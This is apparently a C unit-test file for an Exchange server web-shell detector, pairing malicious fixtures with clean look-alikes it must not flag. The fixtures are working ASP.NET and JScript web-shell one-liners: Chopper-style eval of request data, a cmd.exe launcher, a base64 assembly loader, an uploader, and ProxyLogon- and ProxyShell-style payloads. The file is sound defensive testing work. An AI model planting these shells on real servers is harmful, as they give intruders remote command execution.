/* The web-shell checks, one form at a time, with clean look-alikes that
 * must not match: client-side eval in HTML, ordinary Request.Form
 * handling, minified JavaScript, shipped Exchange pages. */
#include "hunt/detect.h"
#include "check.h"
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

static const struct {
	const char *name, *path, *content;
	size_t len;            /* 0: strlen */
	const char *want_kind; /* NULL: no finding */
	const char *want_chain;
} cases[] = {
    {"chopper jscript", "inetpub/wwwroot/aspnet_client/a.aspx",
     "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>",
     0, "webshell", ""},
    {"chopper script tag", "FrontEnd/HttpProxy/owa/auth/x.aspx",
     "<script language=\"JScript\" runat=\"server\">function "
     "Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>",
     0, "webshell", ""},
    {"comment obfuscation", "inetpub/wwwroot/aspnet_client/b.aspx",
     "<%@ Page "
     "Language=\"Jscript\"%><%eval/*x9a*/(Request.Item[\"x\"],\"unsafe\");%>",
     0, "webshell", ""},
    {"base64 eval", "inetpub/wwwroot/aspnet_client/c.aspx",
     "<%@ Page Language=\"Jscript\"%><%var "
     "s=System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("
     "Request.Item[\"z\"]));eval(s,\"unsafe\");%>",
     0, "webshell", ""},
    {"oab dump", "FrontEnd/HttpProxy/owa/auth/d.aspx",
     "Name : OAB (Default Web Site)\r\nInternalAuthenticationMethods : "
     "WindowsIntegrated\r\nExternalUrl : http://f/<script language=\"JScript\" "
     "runat=\"server\">function "
     "Page_Load(){eval(Request[\"q\"],\"unsafe\");}</script>\r\n",
     0, "webshell", "proxylogon"},
    {"process from request", "FrontEnd/HttpProxy/ecp/auth/e.aspx",
     "<%@ Page Language=\"C#\"%><%var p=new "
     "System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c "
     "\"+Request.Form[\"c\"]);System.Diagnostics.Process.Start(p);%>",
     0, "webshell", ""},
    {"assembly loader", "inetpub/wwwroot/aspnet_client/f.aspx",
     "<%@ Page "
     "Language=\"C#\"%><%System.Reflection.Assembly.Load(Convert."
     "FromBase64String(Request.Form[\"a\"])).CreateInstance(\"X\");%>",
     0, "webshell", ""},
    {"uploader", "inetpub/wwwroot/aspnet_client/g.aspx",
     "<%@ Page Language=\"C#\" %><% HttpPostedFile f = "
     "Request.Files[0];Request.Files[0].SaveAs(Server.MapPath(\"x\")); %>",
     0, "webshell", ""},
    {"tunnel", "inetpub/wwwroot/aspnet_client/h.aspx",
     "<%@ Page Language=\"C#\"%><%@ Import "
     "Namespace=\"System.Net.Sockets\"%><% "
     "Response.AddHeader(\"X-STATUS\",\"OK\"); string "
     "c=Request.Headers[\"X-CMD\"]; %>",
     0, "webshell", ""},
    {"pst export", "inetpub/wwwroot/aspnet_client/i.aspx",
     "!BDN\x01\x02\x03\x04<script language=\"JScript\" "
     "runat=\"server\">function "
     "Page_Load(){eval(Request[\"exec_code\"],\"unsafe\");}</script>",
     0, "webshell", "proxyshell"},
    {"cert request", "inetpub/wwwroot/aspnet_client/j.aspx",
     "\x30\x82\x02\x10 <%@ Page Language=\"Jscript\"%>", 0, "webshell",
     "proxyshell"},
    {"look-alike name",
     "FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx",
     "<%@ Page language=\"c#\" %><html></html>", 0, "webshell-name", ""},
    {"look-alike by distance",
     "FrontEnd/HttpProxy/owa/auth/expiredpasswrd.aspx",
     "<%@ Page language=\"c#\" %><html></html>", 0, "look-alike-file", ""},
    {"unexpected file", "FrontEnd/HttpProxy/ecp/auth/zz.aspx",
     "<%@ Page language=\"c#\" %><html></html>", 0, "unexpected-file", ""},
    {"compiled leftover",
     "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET "
     "Files/root/1/2/a1b2c3d4.compiled",
     "<?xml version=\"1.0\"?><preserve resultType=\"3\" "
     "virtualPath=\"/aspnet_client/discover.aspx\" hash=\"1\" />",
     0, "compiled-shell-leftover", ""},
    /* Clean look-alikes. */
    {"compiled shipped page",
     "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET "
     "Files/owa/1/2/e5f6a7b8.compiled",
     "<?xml version=\"1.0\"?><preserve resultType=\"3\" "
     "virtualPath=\"/owa/auth/logon.aspx\" />",
     0, NULL, NULL},
    {"shipped logon page", "FrontEnd/HttpProxy/owa/auth/logon.aspx",
     "<%@ Page language=\"c#\" %><% string u = Request.Form[\"username\"]; "
     "%><html><script>var a=eval('1');</script></html>",
     0, NULL, NULL},
    {"client-side eval", "inetpub/wwwroot/page.htm",
     "<html><script>eval(document.location.hash)</script></html>", 0, NULL,
     NULL},
    {"minified js", "FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts/a.js",
     "!function(n){var t=n.eval;t(\"1\")}(window);", 0, NULL, NULL},
    {"form handling", "ClientAccess/ecp/page.aspx",
     "<%@ Page Language=\"C#\"%><% var name = Request.Form[\"name\"]; "
     "Response.Write(Server.HtmlEncode(name)); %>",
     0, NULL, NULL},
    {"shipped oab config", "FrontEnd/HttpProxy/oab/web.config",
     "<?xml version=\"1.0\"?><configuration></configuration>", 0, NULL, NULL},
};

int main(void)
{
	struct hunt h;
	size_t i;

	memset(&h, 0, sizeof h);
	if (detect_files_init(&h, getenv("EXHUNT_DATA"))) {
		fprintf(stderr, "rules did not compile\n");
		return 1;
	}
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char lower[512];
		size_t k, len = cases[i].len ? cases[i].len
		                             : strlen(cases[i].content);
		int fd = memfd_create("t", 0);
		const struct finding *f;
		if (fd < 0 || write(fd, cases[i].content, len) != (ssize_t)len)
			return 1;
		lseek(fd, 0, SEEK_SET);
		for (k = 0; cases[i].path[k] && k < sizeof lower - 1; k++)
			lower[k] = (char)(cases[i].path[k] >= 'A' &&
			                          cases[i].path[k] <= 'Z'
			                      ? cases[i].path[k] + 32
			                      : cases[i].path[k]);
		lower[k] = '\0';
		hunt_release(&h);
		detect_file(&h, fd, cases[i].path, lower, len, 0);
		close(fd);
		f = h.nf ? &h.f[h.nf - 1] : NULL;
		check_count++;
		if (!cases[i].want_kind
		        ? h.nf != 0
		        : !f || strcmp(f->kind, cases[i].want_kind) != 0 ||
		              strcmp(f->chain, cases[i].want_chain) != 0 ||
		              (!f->backdoor &&
		               strcmp(f->kind, "compiled-shell-leftover"))) {
			fprintf(stderr, "%s: got %s (%s)\n", cases[i].name,
			        f ? f->kind : "nothing", f ? f->detail : "");
			check_failures++;
		}
	}
	detect_files_release(&h);
	hunt_release(&h);
	return check_done();
}
